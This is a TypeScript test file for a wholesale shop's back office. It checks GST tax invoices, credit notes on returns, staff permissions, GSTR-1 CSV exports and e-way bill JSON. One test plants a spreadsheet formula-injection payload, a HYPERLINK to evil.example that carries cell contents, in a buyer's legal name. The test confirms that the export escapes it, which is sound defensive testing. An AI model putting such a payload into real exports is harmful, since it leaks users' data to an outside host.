import { execFile } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import type { AdminCreditNoteIssuedDto, AdminOrderDetailDto, GstInvoiceRowDto, OrderDto } from "@roshni/core";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditLog, documents } from "../../db/schema";
import {
  adminApi,
  api,
  createTestApp,
  DEMO_STAFF_EMAIL,
  staffCookie,
  type TestApp,
  WEB_ORIGIN,
} from "../../test/harness";
import {
  addTestAddress,
  addTestCustomer,
  addTestProduct,
  DELHI_ADDRESS,
  PUNE_ADDRESS,
} from "../orders/test-fixtures";

const run = promisify(execFile);

let testApp: TestApp;
let scratch: string;
let buyer: { id: number; token: string };
let puneAddress: number;
let lamp: number; // ₹1,000.00 at 18 %
let keySerial = 0;
let ownerCookie: string;
let dispatchCookie: string;
type Client = ReturnType<typeof adminApi>;
let owner: Client;
let sales: Client;
let dispatch: Client;

async function pdfText(pdf: Buffer): Promise<string> {
  keySerial += 1;
  const file = join(scratch, `${keySerial}.pdf`);
  await writeFile(file, pdf);
  const { stdout } = await run("pdftotext", ["-layout", "-enc", "UTF-8", file, "-"]);
  return stdout;
}

async function placeOrder(quantity: number): Promise<OrderDto> {
  keySerial += 1;
  const res = await api(testApp.app).post<OrderDto>(
    "/v1/order",
    {
      items: [{ productId: lamp, quantity }],
      addressId: puneAddress,
      toPayShipping: true,
      paymentMethod: "bank-transfer",
    },
    { token: buyer.token, headers: { "idempotency-key": `gst-admin-${keySerial}-${Date.now()}` } },
  );
  if (res.statusCode !== 201) throw new Error(`order refused: ${JSON.stringify(res.body)}`);
  return res.data;
}

async function toDispatched(orderId: number) {
  for (const body of [
    { to: "confirmed" },
    { to: "packed" },
    { to: "dispatched", transporter: "VRL Logistics", lrNumber: "LR-88121", allowUnpaid: true },
  ]) {
    const res = await owner.post<AdminOrderDetailDto>(`/v1/admin/orders/${orderId}/transitions`, body);
    if (res.statusCode !== 200) throw new Error(`move refused: ${JSON.stringify(res.body)}`);
  }
}

function download(cookie: string | null, url: string) {
  return testApp.app.inject({
    method: "GET",
    url,
    headers: { website: "wholesale", ...(cookie ? { cookie } : {}) },
  });
}

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "roshni-gst-admin-"));
  testApp = await createTestApp({ products: 2 });
  buyer = await addTestCustomer(testApp, { email: "pune-trader@example.in" });
  puneAddress = await addTestAddress(testApp, buyer.token, PUNE_ADDRESS);
  lamp = await addTestProduct(testApp, {
    title: "Brass Pendant",
    sellingPrice: 100_000,
    taxRate: 18,
    stock: 10_000,
    minimumQuantity: 1,
  });
  ownerCookie = await staffCookie(testApp, DEMO_STAFF_EMAIL.owner);
  dispatchCookie = await staffCookie(testApp, DEMO_STAFF_EMAIL.dispatch);
  owner = adminApi(testApp.app, ownerCookie);
  sales = adminApi(testApp.app, await staffCookie(testApp, DEMO_STAFF_EMAIL.sales));
  dispatch = adminApi(testApp.app, dispatchCookie);
});

afterAll(async () => {
  await testApp?.close();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

describe("GST in the back office", () => {
  it("dispatch issues the tax invoice once, with IGST for Pune; buyer and staff download it", async () => {
    const order = await placeOrder(3);
    const before = await owner.get<AdminOrderDetailDto>(`/v1/admin/orders/${order.id}`);
    expect(before.data.gst.documents.map((d) => d.kind)).toEqual(["proforma"]);
    expect(before.data.gst.creditable).toBeNull();
    expect(before.data.gst.placeOfSupply).toMatchObject({
      name: "Maharashtra",
      gstCode: "27",
      intraState: false,
    });

    await toDispatched(order.id);
    const after = await owner.get<AdminOrderDetailDto>(`/v1/admin/orders/${order.id}`);
    const invoice = after.data.gst.documents.find((d) => d.kind === "invoice");
    expect(invoice?.number).toMatch(/^RL\/\d{2}-\d{2}\/\d{6}$/);
    expect(invoice?.total).toBe(after.data.total);
    expect(after.data.gst.creditable).toBe(after.data.total);
    expect(after.data.history.at(-1)?.note).toContain(`Tax invoice ${invoice?.number} issued.`);

    const buyerPdf = await testApp.app.inject({
      method: "GET",
      url: `/v1/order/${order.id}/documents/invoice`,
      headers: { website: "wholesale", authorization: `Bearer ${buyer.token}` },
    });
    expect(buyerPdf.statusCode).toBe(200);
    const text = await pdfText(buyerPdf.rawPayload);
    expect(text).toContain("TAX INVOICE");
    expect(text).toContain(invoice?.number ?? "missing");
    expect(text).toContain("IGST");
    expect(text).toContain("Maharashtra (27)");
    expect(text).toMatch(/IGST 18% on ₹[0-9,.]+/);
    expect(text).not.toMatch(/CGST \d/);

    const staffPdf = await download(ownerCookie, `/v1/admin/orders/${order.id}/documents/invoice`);
    expect(staffPdf.statusCode).toBe(200);
    expect(staffPdf.headers["content-type"]).toBe("application/pdf");
    expect(staffPdf.rawPayload.equals(buyerPdf.rawPayload)).toBe(true);
    // Dispatch staff do not hold "GST documents and exports".
    expect(
      (await download(dispatchCookie, `/v1/admin/orders/${order.id}/documents/invoice`)).statusCode,
    ).toBe(403);

    // Delivered: the invoice stays the one issued at dispatch.
    await owner.post(`/v1/admin/orders/${order.id}/transitions`, { to: "delivered" });
    const rows = await testApp.db
      .select()
      .from(documents)
      .where(and(eq(documents.orderId, order.id), eq(documents.kind, "invoice")));
    expect(rows).toHaveLength(1);
  });

  it("a cancellation after dispatch is refused; a return's credit note is at most the invoice's pieces and audited", async () => {
    const order = await placeOrder(2);
    const early = await sales.post(`/v1/admin/orders/${order.id}/returns`, {
      lines: [{ orderLineId: 1, quantity: 1, restock: true }],
      reason: "Return",
    });
    expect(early.statusCode).toBe(409);
    expect(early.body).toMatchObject({ data: { error: { code: "CREDIT_NOTE_NOT_ALLOWED" } } });

    await toDispatched(order.id);
    const cancel = await owner.post(`/v1/admin/orders/${order.id}/transitions`, { to: "cancelled" });
    expect(cancel.statusCode).toBe(409);

    const detail = await owner.get<AdminOrderDetailDto>(`/v1/admin/orders/${order.id}`);
    const total = detail.data.total;
    const [line] = detail.data.money.returnable;
    if (!line) throw new Error("no returnable line");
    const returnBody = (quantity: number, reason: string) => ({
      lines: [{ orderLineId: line.orderLineId, quantity, restock: false }],
      reason,
    });
    const above = await sales.post(`/v1/admin/orders/${order.id}/returns`, returnBody(3, "Pendants broken"));
    expect(above.statusCode).toBe(422);
    expect(above.body).toMatchObject({ data: { error: { code: "CREDIT_ABOVE_INVOICE" } } });
    expect((await sales.post(`/v1/admin/orders/${order.id}/returns`, returnBody(0, "x"))).statusCode).toBe(
      422,
    );
    expect((await dispatch.post(`/v1/admin/orders/${order.id}/returns`, returnBody(1, "x"))).statusCode).toBe(
      403,
    );

    const credited = await sales.post<AdminCreditNoteIssuedDto>(
      `/v1/admin/orders/${order.id}/returns`,
      returnBody(1, "One pendant returned broken"),
    );
    expect(credited.statusCode).toBe(201);
    expect(credited.data.creditNote).toMatchObject({
      kind: "credit-note",
      total: 1180,
      reason: "One pendant returned broken",
    });
    expect(credited.data.creditNote.number).toMatch(/^CN\/\d{2}-\d{2}\/\d{4,}$/);

    const pdf = await download(
      ownerCookie,
      `/v1/admin/orders/${order.id}/documents/credit-note?number=${encodeURIComponent(credited.data.creditNote.number)}`,
    );
    expect(pdf.statusCode).toBe(200);
    const text = await pdfText(pdf.rawPayload);
    expect(text).toContain("CREDIT NOTE");
    expect(text).toContain("One pendant returned broken");
    expect(text).toContain("IGST");

    const after = await owner.get<AdminOrderDetailDto>(`/v1/admin/orders/${order.id}`);
    expect(after.data.gst.creditable).toBeCloseTo(total - 1180, 2);
    const [audit] = await testApp.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, "order.return"), eq(auditLog.entityId, String(order.id))));
    expect(audit?.after).toMatchObject({
      number: credited.data.creditNote.number,
      reason: "One pendant returned broken",
    });
  });

  it("exports the month's GSTR-1 tables and the e-way bill JSON of chosen invoices", async () => {
    const big = await placeOrder(90); // above ₹1,00,000 interstate to an unregistered buyer: B2CL, and an e-way bill
    keySerial += 1;
    for (const body of [
      { to: "confirmed" },
      { to: "packed" },
      {
        to: "dispatched",
        transporter: "VRL Logistics",
        lrNumber: "LR-90001",
        ewayBillNumber: "331000123456",
        allowUnpaid: true,
      },
    ]) {
      const res = await owner.post(`/v1/admin/orders/${big.id}/transitions`, body);
      expect(res.statusCode).toBe(200);
    }
    const month = new Intl.DateTimeFormat("en-CA", {
      timeZone: "Asia/Kolkata",
      year: "numeric",
      month: "2-digit",
    })
      .format(new Date())
      .slice(0, 7);
    const listed = await sales.get<{ items: GstInvoiceRowDto[] }>(`/v1/admin/gst/invoices?month=${month}`);
    expect(listed.statusCode).toBe(200);
    const row = listed.data.items.find((item) => item.orderId === big.id);
    expect(row).toMatchObject({
      ewayBillRequired: true,
      ewayBillNumber: "331000123456",
      deliveryState: "Maharashtra",
    });
    expect(listed.data.items.some((item) => !item.ewayBillRequired)).toBe(true);

    const b2cl = await download(ownerCookie, `/v1/admin/gst/gstr1?month=${month}&table=b2cl`);
    expect(b2cl.statusCode).toBe(200);
    expect(b2cl.headers["content-type"]).toContain("text/csv");
    expect(b2cl.body).toContain(row?.number ?? "missing");
    const badMonth = await download(ownerCookie, `/v1/admin/gst/gstr1?month=2026-13&table=b2b`);
    expect(badMonth.statusCode).toBe(422);

    const eway = await testApp.app.inject({
      method: "POST",
      url: "/v1/admin/gst/eway-bill",
      headers: {
        website: "wholesale",
        origin: WEB_ORIGIN,
        cookie: ownerCookie,
        "content-type": "application/json",
      },
      payload: JSON.stringify({
        invoices: [{ invoiceId: row?.id, distanceKm: 1420, vehicleNo: "mh12 ab 1234" }],
      }),
    });
    expect(eway.headers["content-type"]).toContain("application/json");
    expect(eway.statusCode).toBe(200);
    const json = JSON.parse(eway.payload) as { billLists: Record<string, unknown>[] };
    expect(json.billLists).toHaveLength(1);
    expect(json.billLists[0]).toMatchObject({
      docNo: row?.number,
      transDistance: "1420",
      transMode: 1,
      vehicleNo: "MH12AB1234",
      TotNonAdvolVal: 0,
    });
    expect(json.billLists[0]).not.toHaveProperty("cessNonAdvolValue");
    // Part A only: the transporter's id instead of a vehicle; neither is refused with a sentence.
    // Exported once already: again only when asked to.
    const partA = await sales.post<unknown>("/v1/admin/gst/eway-bill", {
      invoices: [{ invoiceId: row?.id, distanceKm: 1420, transporterId: "07aaacv1234a1z5" }],
      again: true,
    });
    expect(partA.statusCode).toBe(200);
    const noPartB = await sales.post("/v1/admin/gst/eway-bill", {
      invoices: [{ invoiceId: row?.id, distanceKm: 1420 }],
      again: true,
    });
    expect(noPartB.statusCode).toBe(422);
    expect(noPartB.error?.code).toBe("EWAY_BILL_REFUSED");
    expect(noPartB.error?.message).toContain("vehicle number");
    expect(JSON.stringify(json.billLists[0])).toContain("LR-90001");
    const unknown = await sales.post("/v1/admin/gst/eway-bill", {
      invoices: [{ invoiceId: 999_999, distanceKm: 5, vehicleNo: "DL01AB1234" }],
    });
    expect(unknown.statusCode).toBe(404);
  });

  it("GSTR-1 tables carry a buyer's legal name as text, never as a formula", async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A2,"x")';
    const address = await api(testApp.app).post<{ id: number }>(
      "/v1/customer/address",
      {
        ...DELHI_ADDRESS,
        line1: "14, Laxmi Road",
        city: "Pune",
        state: "Maharashtra",
        pincode: "411002",
        company: hostile,
        gstin: "27AAGFM5823Q1ZO",
      },
      { token: buyer.token },
    );
    expect(address.statusCode, JSON.stringify(address.body)).toBe(201);
    keySerial += 1;
    const placed = await api(testApp.app).post<OrderDto>(
      "/v1/order",
      {
        items: [{ productId: lamp, quantity: 2 }],
        addressId: address.data.id,
        toPayShipping: true,
        paymentMethod: "bank-transfer",
      },
      { token: buyer.token, headers: { "idempotency-key": `gst-formula-${keySerial}-${Date.now()}` } },
    );
    expect(placed.statusCode, JSON.stringify(placed.body)).toBe(201);
    // The receiver is the firm's legal name (never the company typed on the address), set by staff.
    const named = await owner.patch(`/v1/admin/customers/${buyer.id}`, { legalName: hostile });
    expect(named.statusCode, JSON.stringify(named.body)).toBe(200);
    await toDispatched(placed.data.id);
    const month = new Intl.DateTimeFormat("en-CA", {
      timeZone: "Asia/Kolkata",
      year: "numeric",
      month: "2-digit",
    })
      .format(new Date())
      .slice(0, 7);
    const Papa = (await import("papaparse")).default;
    const b2b = await download(ownerCookie, `/v1/admin/gst/gstr1?month=${month}&table=b2b`);
    expect(b2b.statusCode).toBe(200);
    const [header, ...rows] = Papa.parse<string[]>(b2b.body, { skipEmptyLines: true }).data;
    const name = header?.indexOf("Receiver Name") ?? -1;
    const value = header?.indexOf("Invoice Value") ?? -1;
    const ours = rows.filter((row) => row[name] === `'${hostile}`);
    expect(ours.length).toBeGreaterThan(0);
    for (const row of rows) {
      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
      expect(row[value]).toMatch(/^\d+\.\d{2}$/);
    }
  });
});
